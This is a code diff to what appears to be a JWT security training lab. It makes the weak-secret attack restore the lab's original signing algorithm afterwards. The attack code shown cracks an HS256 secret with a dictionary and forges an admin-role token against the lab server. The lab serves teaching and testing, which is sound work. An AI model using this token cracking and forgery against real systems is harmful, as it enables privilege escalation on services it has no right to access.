@@ -67,16 +67,31 @@ async function tryAdmin(forged: string, steps: string[]): Promise<AttackOutcome>
     : { succeeded: false, summary: `Refused: ${res.status} ${error ?? ''}`.trim(), steps };
 }
 
-async function ensureAccessAlgorithm(want: (alg: string) => boolean, alg: string, steps: string[]) {
+/** Returns the algorithm the lab used before, when it had to rotate for this attack. */
+async function ensureAccessAlgorithm(
+  want: (alg: string) => boolean,
+  alg: string,
+  steps: string[],
+): Promise<string | null> {
   const keys = (await exchange('GET', '/api/jwt/keys')).body as Array<{
     purpose: string;
     alg: string;
     retireAt: number | null;
   }>;
   const current = keys.find((k) => k.purpose === 'access' && k.retireAt === null);
-  if (current && want(current.alg)) return;
+  if (current && want(current.alg)) return null;
   await exchange('POST', '/api/jwt/keys/rotate', { body: { alg } });
   steps.push(`The lab signed with ${current?.alg ?? '?'}; rotated to a new ${alg} key for this attack.`);
+  return current?.alg ?? null;
+}
+
+/** Puts the lab back on the algorithm it used before the attack, so other labs see their usual tokens. */
+async function restoreAccessAlgorithm(previous: string | null, steps: string[]): Promise<void> {
+  if (!previous) return;
+  await exchange('POST', '/api/jwt/keys/rotate', { body: { alg: previous } });
+  steps.push(
+    `Rotated the lab back to a ${previous} key; tokens signed during the attack still verify until they expire.`,
+  );
 }
 
 /** Each attack talks to the real lab server, exactly as an attacker's script would. */
@@ -103,17 +118,21 @@ export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<Attack
   },
   weakSecret: async (ctx) => {
     const steps: string[] = [];
-    await ensureAccessAlgorithm((alg) => alg === 'HS256', 'HS256', steps);
-    const { token, header, payload } = await victimToken(ctx, steps);
-    const { words } = (await exchange('GET', '/api/jwt/attack/wordlist')).body as { words: string[] };
-    steps.push(`Trying ${words.length} dictionary words offline against one captured token…`);
-    const secret = await crackHs256Secret(token, words, { onProgress: ctx.progress });
-    if (secret === null) {
-      steps.push('No word matched: the secret is not in the dictionary.');
-      return { succeeded: false, summary: 'Cracking failed: the secret is random.', steps };
+    const previous = await ensureAccessAlgorithm((alg) => alg === 'HS256', 'HS256', steps);
+    try {
+      const { token, header, payload } = await victimToken(ctx, steps);
+      const { words } = (await exchange('GET', '/api/jwt/attack/wordlist')).body as { words: string[] };
+      steps.push(`Trying ${words.length} dictionary words offline against one captured token…`);
+      const secret = await crackHs256Secret(token, words, { onProgress: ctx.progress });
+      if (secret === null) {
+        steps.push('No word matched: the secret is not in the dictionary.');
+        return { succeeded: false, summary: 'Cracking failed: the secret is random.', steps };
+      }
+      steps.push(`Cracked: the secret is "${secret}". Signed role "admin" with it.`);
+      return await tryAdmin(await signHs256(header, { ...payload, role: 'admin' }, utf8(secret)), steps);
+    } finally {
+      await restoreAccessAlgorithm(previous, steps);
     }
-    steps.push(`Cracked: the secret is "${secret}". Signed role "admin" with it.`);
-    return tryAdmin(await signHs256(header, { ...payload, role: 'admin' }, utf8(secret)), steps);
   },
   kidInjection: async (ctx) => {
     const steps: string[] = [];
